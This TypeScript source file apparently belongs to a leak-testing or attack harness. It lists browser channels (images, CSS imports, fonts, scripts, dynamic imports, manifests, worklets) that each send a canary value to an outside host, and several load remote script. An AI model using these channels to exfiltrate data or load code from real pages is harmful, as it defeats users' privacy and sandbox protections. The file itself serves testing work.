/** Channels in which an element, a style or a document's own parts ask for an address. */
import type { Channel } from "./channel.ts";

export const elementChannels = [
  {
    id: "image",
    family: "element",
    short: true,
    run: ({ http, canary }) => {
      const image = new Image();
      image.src = `${http}/x.svg?${canary}`;
      attack.kept.push(image);
    },
  },
  {
    id: "image-srcset",
    family: "element",
    run: ({ http, canary }) => {
      const image = document.createElement("img");
      image.srcset = `${http}/x.svg?${canary} 1x`;
      document.body.append(image);
    },
  },
  {
    id: "svg-image",
    family: "element",
    run: ({ http, canary }) => {
      const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
      image.setAttribute("href", `${http}/x.svg?${canary}`);
      svg.append(image);
      document.body.append(svg);
    },
  },
  {
    id: "css-url",
    family: "element",
    short: true,
    run: ({ http, canary }) => {
      document.body.style.backgroundImage = `url(${http}/x.svg?${canary})`;
    },
  },
  {
    id: "css-import",
    family: "element",
    run: ({ http, canary }) => {
      const style = document.createElement("style");
      style.textContent = `@import url(${http}/x.css?${canary})`;
      document.head.append(style);
    },
  },
  {
    id: "adopted-sheet",
    family: "element",
    run: ({ http, canary }) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background: url(${http}/x.svg?${canary}) !important }`);
      document.adoptedStyleSheets = [sheet];
    },
  },
  {
    id: "font-face",
    family: "element",
    run: ({ http, canary }) => new FontFace("x", `url(${http}/x.woff2?${canary})`).load(),
  },
  {
    id: "stylesheet",
    family: "element",
    run: ({ http, canary }) => {
      const link = document.createElement("link");
      link.rel = "stylesheet";
      link.href = `${http}/x.css?${canary}`;
      document.head.append(link);
    },
  },
  {
    id: "script",
    family: "element",
    short: true,
    run: ({ http, canary }) => {
      const script = document.createElement("script");
      script.src = attack.scriptUrl(`${http}/x.js?${canary}`);
      document.head.append(script);
    },
  },
  { id: "dynamic-import", family: "element", run: ({ http, canary }) => import(`${http}/x.js?${canary}`) },
  {
    id: "object",
    family: "element",
    run: ({ http, canary }) => {
      const element = document.createElement("object");
      element.data = attack.scriptUrl(`${http}/x.svg?${canary}`);
      document.body.append(element);
    },
  },
  {
    id: "embed",
    family: "element",
    run: ({ http, canary }) => {
      const element = document.createElement("embed");
      element.src = attack.scriptUrl(`${http}/x.svg?${canary}`);
      document.body.append(element);
    },
  },
  {
    id: "video",
    family: "element",
    run: ({ http, canary }) => {
      const video = document.createElement("video");
      video.preload = "auto";
      video.src = `${http}/x.mp4?${canary}`;
      document.body.append(video);
      video.load();
    },
  },
  {
    id: "manifest",
    family: "element",
    run: ({ http, canary }) => {
      for (const link of document.querySelectorAll("link[rel=manifest]")) link.remove();
      const link = document.createElement("link");
      link.rel = "manifest";
      link.href = `${http}/x.json?${canary}`;
      document.head.append(link);
    },
  },
  {
    id: "icon",
    family: "element",
    run: ({ http, canary }) => {
      for (const link of document.querySelectorAll("link[rel~=icon]")) link.remove();
      const link = document.createElement("link");
      link.rel = "icon";
      link.href = `${http}/x.svg?${canary}`;
      document.head.append(link);
    },
  },
  {
    id: "audio-worklet",
    family: "element",
    run: ({ http, canary }) => new AudioContext().audioWorklet.addModule(`${http}/x.js?${canary}`),
  },
] as const satisfies readonly Channel[];
